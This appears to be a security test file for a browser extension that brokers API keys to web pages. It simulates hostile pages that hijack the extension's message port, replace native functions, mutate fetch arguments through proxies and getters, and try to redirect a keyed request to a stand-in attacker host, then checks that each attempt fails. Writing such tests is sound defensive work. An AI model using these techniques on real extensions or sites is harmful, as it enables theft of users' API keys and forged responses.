/** Pages that come before our scripts, or bend what those use: C45, C46, C47. */
import { describe, expect, it } from 'vitest'
import { APP, CHAT_URL, chatInit, useWorld } from '../e2e/world.ts'
import { inBridgeWorld, tryToSpend } from './attempt.ts'
import { callFickly, prepareChild, replaceAndCall, shareBody } from './hostile-scripts.ts'

const EVIL = 'https://evil.example.test'
const ITS_OWN = { src: `${APP}/empty` }

describe('a page that has a realm in its hands before our scripts', () => {
  const world = useWorld('site')

  // The page holds the window of a frame, and the frame's document keeps it: there it comes first.
  it('C45: that listens in on all of it sees its own call, never a key', async () => {
    const page = await world.emptyPage()
    const seen = await prepareChild(page, { ...ITS_OWN, valetKey: await valetKey(), breaks: false })

    expect(seen).toMatchObject({ wasFirst: true, isStillThere: true, ports: 0, status: 200 })
    expect(seen.replaced).toBeGreaterThan(100)
    // It did see what goes through its own realm; the sweep after this test reads all it caught.
    expect(seen.heard).toContain('call.start')
    expect(world.fakes.requests.map(({ key }) => key)).toEqual([world.keys.openai])
  })

  it('C45: that listens in on about:blank comes after our shim, and sees no message of its own call', async () => {
    const page = await world.emptyPage()
    const seen = await prepareChild(page, { src: '', valetKey: await valetKey(), breaks: false })

    expect(seen).toMatchObject({ wasFirst: false, heard: [], ports: 0, status: 200 })
    expect(seen.replaced).toBeGreaterThan(100)
    expect(world.fakes.requests.map(({ key }) => key)).toEqual([world.keys.openai])
  })

  it.each([
    ['a document of the site', ITS_OWN.src],
    ['about:blank', ''],
  ])('C45: that breaks all of it breaks that realm only: %s', async (_name, src) => {
    // The shim has no ground to stand on there: at most, the page's own request goes out as it is.
    world.fakes.expectValetKeys(true)
    const page = await world.emptyPage()
    const seen = await prepareChild(page, { src, valetKey: await valetKey(), breaks: true })

    expect(seen).toMatchObject({ wasFirst: src !== '', ports: 0 })
    expect(seen.status).not.toBe(200)
    expect(world.fakes.requests.filter(({ key }) => key !== null)).toEqual([])
    expect(await tryToSpend(world, page)).toBe('served')
    expect(await tryToSpend(world, await world.emptyPage())).toBe('served')
  })

  it('C47: that takes the port our shim offers has its own channel, and no way to the bridge', async () => {
    const page = await world.emptyPage()
    const stolen = await page.evaluate(
      async (url, init) => {
        const frame = document.createElement('iframe')
        frame.src = '/empty'
        document.documentElement.append(frame)
        const child = frame.contentWindow as Window & typeof globalThis
        const ports: MessagePort[] = []
        const take = (event: Event) => {
          ports.push(...(event as MessageEvent).ports)
          event.stopImmediatePropagation()
          event.preventDefault()
        }
        child.addEventListener('valetkey:port', take, true)
        await new Promise((resolve) => (frame.onload = resolve))
        const heard: string[] = []
        for (const port of ports) {
          port.onmessage = ({ data }: MessageEvent<{ type: string; callId: string }>) => {
            heard.push(data.type)
            if (data.type === 'hello') port.postMessage({ type: 'ready', version: 1, site: 'on' })
            if (data.type !== 'call.start') return
            const { callId } = data
            const headers = [['x-forged', 'yes']]
            port.postMessage({ type: 'call.head', callId, status: 299, statusText: '', headers })
            port.postMessage({ type: 'call.end', callId })
          }
        }
        const reply = await child.fetch(url, init)
        return { ports: ports.length, heard, status: reply.status }
      },
      CHAT_URL,
      chatInit(await valetKey()),
    )

    // It fooled nobody but its own frame: no worker, no provider heard of it.
    expect(stolen).toEqual({ ports: 1, heard: ['hello', 'call.start'], status: 299 })
    expect(world.fakes.requests).toEqual([])
    expect(await tryToSpend(world, page)).toBe('served')
  })

  const valetKey = () => world.driver.valetKey(APP, 'openai')
})

describe('a page that replaces what our scripts use', () => {
  const world = useWorld('site')
  const valetKey = () => world.driver.valetKey(APP, 'openai')

  it('C45, C47: after they came, still gets its call, and the bridge’s world knows nothing of it', async () => {
    const page = await world.emptyPage()
    const status = await page.evaluate(replaceAndCall, CHAT_URL, chatInit(await valetKey()))

    expect(status).toMatchObject({ status: 200, text: true, stepped: [] })
    expect(status.replaced).toBeGreaterThan(55)
    const names = ['MessagePort', 'CustomEvent', 'EventTarget', 'MessageChannel', 'Promise', 'JSON']
    const source = `JSON.stringify({
      natives: [${names.join()}, customElements?.define, Element.prototype.attachShadow,
        EventTarget.prototype.addEventListener, EventTarget.prototype.dispatchEvent,
        MessagePort.prototype.postMessage, Array.prototype[Symbol.iterator]]
        .filter((one) => typeof one === 'function' && !String(one).includes('[native code]')),
      left: Object.keys(window).filter((name) => name.startsWith('hostile')),
      wallet: typeof chrome.runtime.connect,
    })`
    expect(JSON.parse(String(await inBridgeWorld(page, source)))).toEqual({
      natives: [],
      left: [],
      wallet: 'function',
    })
  })

  it('C47: finds nothing of the extension in its own world', async () => {
    const page = await world.emptyPage()
    expect(await tryToSpend(world, page)).toBe('served')
    const found = await page.evaluate(() => {
      const { chrome, browser } = window as { chrome?: { runtime?: unknown }; browser?: unknown }
      return {
        runtime: typeof chrome?.runtime,
        browser: typeof browser,
        bridge: Symbol.for('valetkey.bridge') in window,
        elements: document.querySelectorAll('html > :not(head):not(body)').length,
      }
    })

    expect(found).toEqual({
      runtime: 'undefined',
      browser: 'undefined',
      bridge: false,
      elements: 0,
    })
  })
})

describe('a page whose arguments change while they are read', () => {
  const world = useWorld('site')
  const valetKey = () => world.driver.valetKey(APP, 'openai')

  it('C46: getters, proxies and traps are asked once; judged, sent and counted is the same', async () => {
    const page = await world.emptyPage()
    const outcomes = await page.evaluate(callFickly, CHAT_URL, await valetKey())
    const rows = await world.driver.usage()

    expect(outcomes).toEqual({
      'an init that is a proxy': { status: 200, asked: 1 },
      'an init of getters': { status: 200, asked: 1 },
      'headers of getters': { status: 200, asked: 1 },
      'a body with a toString of its own': { status: 200, asked: 1 },
      'a body changed afterwards': { status: 200, asked: 0 },
      'headers changed afterwards': { status: 200, asked: 0 },
    })
    const models = world.fakes.requests.map(({ body }) => String(modelOf(body)))
    // The first reading, and never the second one, which names a model of another price.
    expect(models).toEqual(models.map(() => 'gpt-4o-mini'))
    expect(models).toHaveLength(6)
    expect(rows.slice(0, 6).map(({ model }) => model)).toEqual(models)
  })

  it('C46: an address, headers or a body with a `then` are awaited by nobody', async () => {
    world.fakes.expectValetKeys(true)
    const page = await world.emptyPage()
    const asked = await page.evaluate(
      async (url, init) => {
        let thens = 0
        const then = () => {
          thens += 1
        }
        const calls = [
          () => fetch({ then, toString: () => url } as unknown as string, init),
          () => fetch(url, { ...init, headers: { then, toString: () => 'x' } as unknown as [] }),
          () => fetch(url, { ...init, body: { then, toString: () => '{}' } as unknown as string }),
          () => fetch(url, { ...init, then } as RequestInit),
          () => fetch(new Proxy(new Request(url, init), {})),
        ]
        for (const call of calls) await call().catch(() => null)
        return thens
      },
      CHAT_URL,
      chatInit(await valetKey()),
    )

    expect(asked).toBe(0)
  })

  it('C46: a body in shared memory is sent as it was when it was given, whatever is written to it then', async () => {
    const policy = {
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-embedder-policy': 'require-corp',
    }
    world.apps.serve('/isolated', {
      body: '<!doctype html><title>isolated</title>',
      headers: policy,
    })
    const page = await world.driver.newPage(`${APP}/isolated`)
    const outcome = await page.evaluate(shareBody, CHAT_URL, await valetKey())

    // Said on a port, the shared memory itself does not leave the page's process.
    expect(outcome).toEqual({ isolated: true, fetched: 200, answers: ['ready'] })
    expect(world.fakes.requests.map(({ body }) => modelOf(body))).toEqual(['gpt-4o-mini'])
  })

  it('C46: an address that says two things is one thing to the wallet', async () => {
    world.fakes.expectValetKeys(true)
    const page = await world.emptyPage()
    const served = await page.evaluate(
      async (url, evil, init) => {
        const address = new URL(url)
        let turn = 0
        const trap = { get: () => (turn++ % 2 === 0 ? evil : url) }
        Object.defineProperties(address, {
          href: trap,
          hostname: trap,
          toString: { value: trap.get },
        })
        return fetch(address, init).then(
          ({ status }) => status,
          (error: unknown) => String(error),
        )
      },
      CHAT_URL,
      `${EVIL}/v1/chat/completions`,
      chatInit(await valetKey()),
    )

    expect([served, world.fakes.requests.length]).toEqual([200, 1])
    expect(world.fakes.attackerRequests).toEqual([])
  })
})

function modelOf(body: Buffer): unknown {
  return (JSON.parse(body.toString()) as { model?: unknown }).model
}
